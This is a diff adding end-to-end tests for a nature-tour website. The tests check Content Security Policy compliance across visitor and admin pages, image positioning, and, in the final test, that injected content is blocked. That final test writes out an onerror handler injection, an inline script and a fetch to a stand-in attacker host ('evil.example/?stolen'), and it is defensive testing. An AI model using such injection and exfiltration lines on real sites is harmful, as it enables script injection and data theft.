@@ -1,0 +1,139 @@
+import { expect, test } from "vitest"
+import { ADMIN, signedInAdmin } from "../admin.ts"
+import { DESK, hydrated, PHONE, siteAndBrowser, type Visitor, visitor } from "../browser.ts"
+
+const here = siteAndBrowser()
+
+const VISITORS_PAGES = [
+	"/",
+	"/?search=heron",
+	"/tour",
+	"/tour?type=plant&species=24",
+	"/tour?dialog=tour",
+	"/species/1",
+	"/blog",
+	"/blog/spring-bird-count-71-species-in-one-long-wet-morning",
+	"/waiver?redirect=parking",
+	"/offline",
+	"/auth",
+]
+const STAFFS_PAGES = [
+	"/",
+	"/tour",
+	"/admin",
+	"/admin/species/new",
+	"/admin/species/1/edit",
+	"/admin/import",
+	"/admin/news",
+	"/admin/news/new",
+	"/admin/analytics",
+	"/admin/security",
+	"/admin/security/password",
+	"/admin/qr-codes",
+	"/admin/qr-codes/print",
+]
+
+const moved = () =>
+	here.site.db
+		.updateTable("species")
+		.set({ image_position: "custom", image_offset: "12,-30" })
+		.where("id", "=", 1)
+		.execute()
+
+/** How the picture of a species is held. */
+const heldAt = ({ page }: Visitor) =>
+	page.locator("main img[fetchpriority=high]").evaluate((image) => {
+		const { objectPosition, transform } = getComputedStyle(image)
+		return { objectPosition, transform }
+	})
+const MOVED = { objectPosition: "62% 20%", transform: "matrix(1, 0, 0, 1, 12, -30)" }
+
+test("no page of visitors does what its policy forbids, opened by its address, twice, or by a link", async () => {
+	await moved()
+	const { page, complaints, leave } = await visitor(here, { ...PHONE, consent: false })
+	for (const path of [...VISITORS_PAGES, ...VISITORS_PAGES]) {
+		await page.goto(path)
+		await hydrated(page)
+	}
+	await page.goto("/")
+	await page.getByRole("link", { name: "Explore the tour" }).click()
+	await page.getByRole("link", { name: "American Bittern" }).click()
+	await page.getByRole("dialog").getByRole("link", { name: "Open full page" }).click()
+	await page.getByRole("heading", { name: "American Bittern", level: 1, exact: true }).waitFor()
+	expect(complaints).toEqual([])
+	await page.goto("/nope")
+	await hydrated(page)
+	expect(complaints.filter((text) => !text.includes("404"))).toEqual([])
+	await leave()
+})
+
+test("no page of the staff does either", async () => {
+	await signedInAdmin(here.site)
+	const { page, complaints, leave } = await visitor(here, DESK)
+	await page.goto("/auth?redirectTo=/admin")
+	await hydrated(page)
+	await page.getByLabel("Username").fill(ADMIN.username)
+	await page.getByLabel("Password").fill(ADMIN.password)
+	await page.getByRole("button", { name: "Login", exact: true }).click()
+	await page.waitForURL("/admin")
+	for (const path of STAFFS_PAGES) {
+		await page.goto(path)
+		await hydrated(page)
+	}
+	expect(complaints).toEqual([])
+	await leave()
+})
+
+test("a picture that is held somewhere else is so at once, without scripts, by a link, and while an editor moves it", async () => {
+	await moved()
+	const plain = await visitor(here, { ...DESK, javaScriptEnabled: false })
+	await plain.page.goto("/species/1")
+	expect(await plain.page.locator("main img").first().getAttribute("data-style")).toBeTruthy()
+	expect(plain.complaints).toEqual([])
+	await plain.leave()
+
+	const { page, complaints, ...rest } = await visitor(here, DESK)
+	await page.goto("/species/1")
+	await hydrated(page)
+	expect(await heldAt({ page, complaints, ...rest })).toEqual(MOVED)
+	await page.goto("/species/9")
+	await page.getByRole("link", { name: "Back to Species Catalog" }).click()
+	await page.getByRole("link", { name: "Common Loon" }).first().click()
+	await page.getByRole("dialog").getByRole("link", { name: "Open full page" }).click()
+	await page.waitForURL("/species/1")
+	await expect.poll(() => heldAt({ page, complaints, ...rest })).toEqual(MOVED)
+	expect(complaints).toEqual([])
+	await rest.leave()
+})
+
+test("what somebody managed to put into a page does not run, and is sent nowhere", async () => {
+	const { page, complaints, leave } = await visitor(here, DESK)
+	await page.goto("/tour")
+	await hydrated(page)
+	const outcome = await page.evaluate(async () => {
+		const run = (html: string) => {
+			const part = document.createElement("div")
+			part.innerHTML = html
+			document.body.append(part)
+		}
+		const script = document.createElement("script")
+		script.textContent = "window.wasRun = 'a script'"
+		document.body.append(script)
+		run('<img src="/nothing.png" onerror="window.wasRun = \'a handler\'">')
+		run('<p id="styled" style="color: rgb(1, 2, 3)">styled</p>')
+		const sent = await fetch("https://evil.example/?stolen").then(
+			() => "sent",
+			() => "not sent",
+		)
+		await new Promise((resolve) => setTimeout(resolve, 500))
+		const styled = document.getElementById("styled")
+		return {
+			wasRun: (window as { wasRun?: string }).wasRun,
+			sent,
+			color: styled && getComputedStyle(styled).color === "rgb(1, 2, 3)",
+		}
+	})
+	expect(outcome).toEqual({ wasRun: undefined, sent: "not sent", color: false })
+	expect(complaints.filter((text) => /Content Security Policy/.test(text)).length).toBeGreaterThanOrEqual(4)
+	await leave()
+})
